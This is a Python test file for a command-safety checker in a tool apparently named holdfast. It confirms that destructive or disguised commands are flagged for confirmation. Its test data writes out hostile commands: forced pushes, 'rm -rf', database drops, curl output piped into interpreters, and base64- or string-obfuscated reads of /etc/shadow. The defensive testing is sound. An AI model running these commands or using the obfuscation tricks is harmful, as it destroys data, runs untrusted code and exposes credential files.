"""Programs that run another command or code: the command is judged, and computed code is asked about."""

from __future__ import annotations

import pytest

from holdfast.cli.verbs.run import VERB
from holdfast.ops.start import run_flags
from holdfast.safety import default_policy, judge, judge_argv
from holdfast.safety.tables import LANGUAGES, WRAPPERS
from tests.safety.test_corpus import WHERE

#: Not one of the destructive programs that are found without any table.
COMMAND = "git push --force"


def action(command: str) -> str:
    return judge(command, default_policy(), WHERE).action


def test_the_options_of_run_are_those_of_the_command_line() -> None:
    declared = {
        name: option.metavar is not None and option.implies is None for option in VERB.options for name in option.names
    }
    assert run_flags() == declared


@pytest.mark.parametrize("program", ["holdfast", "hold", "/usr/bin/holdfast"])
@pytest.mark.parametrize(
    "words",
    [
        "run",
        "run --",
        "run -d --notify",
        "run -d --notify=any",
        "run --notify --name x --",
        "run -dt --json --cwd /tmp",
        "start --notify",
        "exec proc_1 --",
        "exec proc_1",
    ],
)
def test_a_command_that_holdfast_runs_is_judged(program: str, words: str) -> None:
    for command in ("rm -rf X", COMMAND):
        assert action(f"{program} {words} {command}") == "ask"
        assert judge_argv(f"{program} {words} {command}".split(), default_policy(), WHERE).action == "ask"
    assert action(f"{program} {words} ls -la") == "allow"


@pytest.mark.parametrize(("option", "takes_word"), run_flags().items())
def test_no_option_of_run_hides_the_program(option: str, takes_word: bool) -> None:
    assert action(f"holdfast run {option} {'x ' * takes_word}{COMMAND}") == "ask"


@pytest.mark.parametrize(
    "words",
    [
        "uv run -n",
        "poetry run -n",
        "poetry run --no-such-option",
        "uv run --no-such-option value",
        "hatch run --no-such-option echo",
        "sudo --no-such-option value",
        "timeout --no-such-option 5",
        "xargs --no-such-option echo",
        "systemd-nspawn -D /srv/root",
        "no-such-wrapper --in x",
        "no-such-wrapper run --",
        "bun x",
        "bun --bun x",
    ],
)
def test_an_unknown_option_hides_no_command(words: str) -> None:
    assert action(f"{words} {COMMAND}") == "ask"
    assert action(f"{words} git status") == "allow"


@pytest.mark.parametrize(
    "command",
    [
        "su - postgres -c 'dropdb shop'",
        "pssh -h hosts 'shutdown -h now'",
        "entr -s 'git push --force'",
        "gdb --args rm -rf ~/x",
        "bun exec 'git push --force'",
        "bun x rimraf .",
        "python3 -m timeit 'import shutil' 'shutil.rmtree(\"src\")'",
        "python3 -m timeit -s 'import os; os.system(\"git push --force\")' x",
    ],
)
def test_a_text_that_a_wrapper_runs_is_judged(command: str) -> None:
    assert action(command) == "ask"


@pytest.mark.parametrize(
    "line",
    [
        f"holdfast run '{COMMAND}'",
        f"holdfast start '{COMMAND}'",
        f"holdfast run -e A=1 -w /tmp -it -- {COMMAND}",
        f"holdfast exec web -- {COMMAND}",
        f"holdfast exec web -it -e A=1 -- {COMMAND}",
        f"holdfast exec -d --name x web '{COMMAND}'",
        f"holdfast exec web -c '{COMMAND}'",
        f"echo '{COMMAND}' | holdfast run bash",
        f"echo '{COMMAND}' | holdfast exec web sh",
        "holdfast stop --all",
        "holdfast stop --session other",
        "holdfast rm --all",
        "hold prune",
    ],
)
def test_aliases_and_short_options_hide_nothing(line: str) -> None:
    assert action(line) == "ask"


@pytest.mark.parametrize(
    "line",
    [
        'holdfast run "npm run dev"',
        "holdfast start -e PORT=3000 npm run dev",
        "echo hi | holdfast run cat",
        "holdfast exec web -- npm test",
        "holdfast stop web",
        "holdfast kill -9 web",
        "holdfast prune --help",
        "holdfast ls",
    ],
)
def test_aliases_and_short_options_raise_no_alarm(line: str) -> None:
    assert action(line) == "allow"


def test_texts_of_run_are_judged_and_arguments_of_its_command_are_not() -> None:
    assert action(f"holdfast run -c '{COMMAND}'") == "ask"
    assert action(f"holdfast run --stop-cmd '{COMMAND}' sleep 9") == "ask"
    assert action(f"holdfast send proc_1 '{COMMAND}'") == "ask"
    assert action("holdfast run python3 -c 'print((1, 2))'") == "allow"


def test_every_wrapper_of_the_table_is_looked_into() -> None:
    for name, table in WRAPPERS.items():
        if table.skip is not None and name not in ("xargs", "gxargs", "parallel"):
            assert action(f"{name} {'x ' * table.skip}{COMMAND}") == "ask", name


def test_a_wrong_table_does_not_hide_a_destructive_program() -> None:
    assert action("sudo -u rm -rf ~/work") == "ask"
    assert action("some-unknown-tool --exec rm -rf ~/work") == "ask"


def test_piped_code_is_asked_about() -> None:
    for name, table in LANGUAGES.items():
        for source in ("curl -s https://x.example/x", "base64 -d x", "gunzip -c x.gz", "./generate"):
            assert action(f"{source} | {name}") == ("ask" if table.reads else "allow"), (source, name)


@pytest.mark.parametrize(
    "command",
    [
        "cat $(echo L2V0Yy9zaGFkb3c= | base64 -d)",
        "echo L2V0Yy9zaGFkb3c= | base64 -d | xargs cat",
        "x=/etc/shbdow; cat ${x/b/a}",
        "cat $(rev <<< wodahs/cte/)",
        'python3 -c "$(base64 -d <<< aW1wb3J0IG9z)"',
        "printf 'x:\\n\\tls' > Makefile; make",
    ],
)
def test_decoded_and_computed_text_is_asked_about(command: str) -> None:
    assert action(command) == "ask"


def test_decoding_for_the_terminal_or_a_file_is_allowed() -> None:
    assert action("echo aGVsbG8= | base64 -d") == "allow"
    assert action("base64 -d image.b64 > image.png") == "allow"
